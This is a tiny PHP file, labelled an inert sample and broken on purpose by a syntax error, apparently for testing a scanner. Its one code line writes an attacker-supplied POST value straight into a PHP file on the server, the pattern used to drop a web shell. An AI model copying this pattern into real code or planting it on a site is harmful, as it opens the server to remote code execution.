<?php
shodo inert sample: deliberate syntax error, this file never runs
 $f = fopen('cache.php', 'w'); fwrite($f, $_POST['c']); fclose($f); ?>
